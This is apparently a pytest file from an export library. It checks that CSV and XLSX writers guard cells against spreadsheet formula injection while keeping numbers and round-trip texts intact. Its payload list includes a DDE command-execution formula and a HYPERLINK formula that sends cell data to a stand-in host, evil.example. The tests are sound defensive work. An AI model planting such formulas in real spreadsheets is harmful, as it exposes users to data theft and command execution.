"""T28: no cell that we write runs as a formula, no number is changed, and what we wrote is read back as it was."""

from __future__ import annotations

import csv
import io
import re
import subprocess
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from exchange import columns, lga_export, xlsx
from exchange.cells import guarded, runs, unguarded
from exchange.reading import PublisherFacts, read_register
from exchange.report import Report, RowFault
from exchange.workbook import read_workbook
from tests.absent import program

PAYLOADS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '"=1+1',
    "'=1+1",
)
NUMBERS = (-5, -0.25, 0, 12, 1e-7, -1234567.89)
WHO = PublisherFacts("GB-LAE-EXA", "Exampleshire", "https://moot.example/id/GB-LAE-EXA/")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def item(text: str, number: float = -5) -> bytes:
    """Give a list item with the text wherever a text can stand, and a number beside it."""
    data = {
        "reference": "R-1",
        "title": text,
        "department": text,
        "suppliers": [{"name": text}],
        "value": {"amount": number, "currency": "GBP"},
        text: text,
    }
    return orjson.dumps({"id": "https://x.example/1", "kind": "contract", "data": data, "origin": {"publisher": text}})


def _plain(text: str) -> str:
    return b"".join(columns.csv_lines([item(text)])).decode("utf-8-sig")


def _lga(text: str) -> str:
    return lga_export.write([orjson.loads(item(text))["data"]])


def _faults(text: str) -> str:
    return Report(problems=[RowFault(1, text, "/title", text, text, text, "error", "x")]).as_csv()


def _audit(text: str) -> str:
    from folkmoot.commands.audit import _csv

    return b"".join(_csv(iter([{"name": text, "action": "create", "record": text}]))).decode()


WRITERS: dict[str, Callable[[str], str]] = {
    "plain": _plain,
    "lga": _lga,
    "faults": _faults,
    "audit": _audit,
}


def read_csv(text: str) -> list[list[str]]:
    """Give the cells of a CSV."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_t28_no_cell_of_a_csv_is_a_formula(writer: str, payload: str) -> None:
    """Whatever a text begins with, its cell begins with nothing that a spreadsheet would run; numbers stay numbers."""
    cells = [cell for row in read_csv(WRITERS[writer](payload)) for cell in row]
    assert any(payload in cell for cell in cells)
    for cell in cells:
        assert not cell.startswith(DANGEROUS) or _is_number(cell), cell


def split(text: str, marks: str) -> Iterator[str]:
    """Give the cells that a spreadsheet finds which splits at any of these marks (RFC 4180 else)."""
    cell = re.compile(f'"((?:[^"]|"")*)"|([^{marks}\r\n]*)')
    at = 0
    while at < len(text):
        found = cell.match(text, at)
        assert found is not None
        yield found[2] if found[1] is None else found[1].replace('""', '"')
        at = found.end() + (2 if text.startswith("\r\n", found.end()) else 1)


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize("mark", [";", "\t", ",", '"', "\n", "\r"])
def test_t28_what_stands_behind_a_mark_is_no_cell(writer: str, mark: str) -> None:
    """A text keeps together in a spreadsheet that splits at semicolons and tabs too, and is read as it was."""
    payload = f"Bins{mark}=1+1{mark}x"
    text = WRITERS[writer](payload)
    assert payload in [cell for row in read_csv(text) for cell in row]
    cells = list(split(text, ",;\t"))
    assert payload in cells
    assert [cell for cell in cells if cell.startswith(DANGEROUS) and not _is_number(cell)] == []


def test_t28_numbers_and_plain_texts_are_not_quoted() -> None:
    """Quotation marks stand around what needs them, and around nothing else."""
    text = _plain("a; b")
    assert text.count(",-5,") == 1
    assert text.count('"') == 2 * text.count("a; b")
    assert '"' not in _plain("a b")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return "\n" not in cell and "\t" not in cell


@pytest.mark.parametrize("number", NUMBERS)
def test_t28_a_number_is_written_as_it_is(number: float) -> None:
    """-5 stays -5 in every export: a number is never guarded."""
    (_, row) = read_csv(b"".join(columns.csv_lines([item("x", number)])).decode("utf-8-sig"))
    assert number in [float(cell) for cell in row if _is_number(cell)]
    (sheet,) = read_workbook(b"".join(xlsx.workbook([item("x", number)])))
    assert number in [float(cell) for row in sheet.rows for cell in row.cells if _is_number(cell)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_t28_a_workbook_holds_texts_and_no_formula(payload: str) -> None:
    """Each text is a cell of the type text, never computed, and is what it was, but for a second apostrophe."""
    (sheet,) = read_workbook(b"".join(xlsx.workbook([item(payload)])))
    assert sheet.formulas == set()
    cells = [cell for row in sheet.rows for cell in row.cells]
    assert cells.count(guarded(payload) if payload.startswith("'") else payload) == 6


@given(st.text(max_size=30), st.integers(-(2**53), 2**53))
def test_t28_json_is_untouched(text: str, number: int) -> None:
    """What is guarded is a cell alone: the record that it came from says what it said."""
    before = {"title": text, "value": {"amount": number}}
    known = orjson.dumps(before)
    columns.row({"data": before})
    assert orjson.dumps(before) == known


@given(st.text(max_size=20))
def test_t28_a_guarded_text_is_harmless_and_comes_back(text: str) -> None:
    """No guarded text begins with what runs, and taking the guard off gives the text."""
    assert not guarded(text).startswith(DANGEROUS)
    assert unguarded(guarded(text)) == text
    assert runs(text) == text.startswith(DANGEROUS)


def _read(body: bytes, name: str) -> dict[str, Any]:
    reading = read_register(body, filename=name, kind="contract", publisher=WHO)
    (record,) = reading.records
    return dict(record.data)


@pytest.mark.parametrize("payload", [one for one in PAYLOADS if one.strip() == one])
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_t28_what_was_exported_is_imported_as_it_was(payload: str, form: str) -> None:
    """A record's texts and negative numbers survive a CSV and a workbook."""
    data = {"reference": "R-1", "title": payload, "department": payload, "value": {"amount": -5, "currency": "GBP"}}
    made = [orjson.dumps({"id": "x", "kind": "contract", "data": data, "origin": {}})]
    parts: Iterable[bytes] = columns.csv_lines(made) if form == "csv" else xlsx.workbook(made)
    read = _read(b"".join(parts), f"register.{form}")
    told = {name: read[name] for name in ("title", "department", "value")}
    assert told == {name: data[name] for name in told}


def test_t28_libreoffice_computes_nothing(tmp_path: Path) -> None:
    """Opened by LibreOffice and saved again, every text of both exports is the text that was written."""
    office = program("soffice", "libreoffice")
    made = [item(payload) for payload in PAYLOADS]
    (tmp_path / "a.csv").write_bytes(b"".join(columns.csv_lines(made)))
    (tmp_path / "b.xlsx").write_bytes(b"".join(xlsx.workbook(made)))
    for name in ("a.csv", "b.xlsx"):
        out = tmp_path / name[0]
        profile = f"-env:UserInstallation=file://{tmp_path}/profile"
        asked = [office, profile, "--headless", "--convert-to", "csv", "--outdir", str(out), str(tmp_path / name)]
        subprocess.run(asked, check=True, capture_output=True, timeout=120)
        text = (out / f"{name[0]}.csv").read_text()
        assert "#NAME?" not in text
        assert text.count("1+1") >= 5 * 9
        assert "-5" in text
